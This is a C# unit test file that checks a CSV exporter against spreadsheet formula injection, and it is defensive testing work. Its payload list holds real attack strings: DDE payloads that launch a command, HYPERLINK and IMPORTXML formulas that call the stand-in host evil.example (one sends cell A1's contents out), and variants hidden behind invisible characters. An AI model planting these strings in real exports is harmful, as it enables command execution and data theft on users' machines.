using System.Text;
using KsPortal.Web.Endpoints;

namespace KsPortal.Tests.Money;

/// <summary>What a spreadsheet reads out of our files: never a formula, and always the text that went in.</summary>
public sealed class CsvTests
{
    public static TheoryData<string> Hostile => new(Payloads);

    internal static readonly string[] Payloads =
    [
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://evil.example\",\"看这里\")", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
        "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "  +cmd", "\u00A0=1+1", "\u3000@SUM(A1)", "\uFEFF=1+1", "\u200B=1+1", "\u2060-2", "＝1+1", "＋1", "－1", "＠A1",
        "'=1+1", "''", "'", "\"=1+1", "\"\"", "a\"b", "a,=1+1", "a;=1+1", "a\n=1+1", "a\r\n@SUM(1)", "a\t=1", "=", "+", "-", "@", "-2+3+cmd|' /C calc'!D2", "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "@@", "+++", "=A1&\",\"&B1", "标题，带逗号, 和\"引号\"", "=\u0000x", "", " ",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void No_payload_is_a_formula_and_each_comes_back_as_it_was(string text)
    {
        Assert.True(Payloads.Length >= 40);
        var row = Csv.Row("before", text, 12.5m, text);

        var cells = Assert.Single(Read(row));
        Assert.Equal(4, cells.Count);
        Assert.Equal("12.50", cells[2]);
        Assert.All(new[] { cells[1], cells[3] }, cell =>
        {
            Assert.False(IsFormula(cell), cell);
            Assert.Equal(text, cell.StartsWith('\'') ? cell[1..] : cell);
        });
    }

    [Fact]
    public void A_planted_formula_would_be_seen() => Assert.All(Payloads.Take(20), text => Assert.True(IsFormula(text), text));

    [Fact]
    public void Numbers_stay_numbers()
        => Assert.Equal("42,0.05,,\"甲\"\r\n", Csv.Row(42L, 0.05m, null, "甲"));

    /// <summary>As a careless spreadsheet would look at it: past all that shows nothing.</summary>
    internal static bool IsFormula(string cell)
        => cell.TrimStart(' ', '\u00A0', '\u3000', '\uFEFF', '\u200B', '\u2060', '\t', '\r', '\n') is ['=' or '+' or '-' or '@' or '＝' or '＋' or '－' or '＠', ..];

    /// <summary>RFC 4180, strictly.</summary>
    internal static List<List<string>> Read(string text)
    {
        var (rows, row, at) = (new List<List<string>>(), new List<string>(), 0);
        while (at < text.Length)
        {
            var cell = new StringBuilder();
            if (text[at] == '"')
            {
                for (at++; text[at] != '"' || (at + 1 < text.Length && text[at + 1] == '"'); at++)
                {
                    if (text[at] == '"') at++;
                    cell.Append(text[at]);
                }
                at++;
            }
            else
            {
                while (at < text.Length && text[at] is not (',' or '\r')) cell.Append(text[at++]);
            }
            row.Add(cell.ToString());
            if (text[at] == ',')
            {
                at++;
                if (at == text.Length || text[at] is '\r') row.Add("");
            }
            if (text[at] == '\r')
            {
                Assert.Equal('\n', text[at + 1]);
                at += 2;
                rows.Add(row);
                row = [];
            }
        }
        return rows;
    }
}
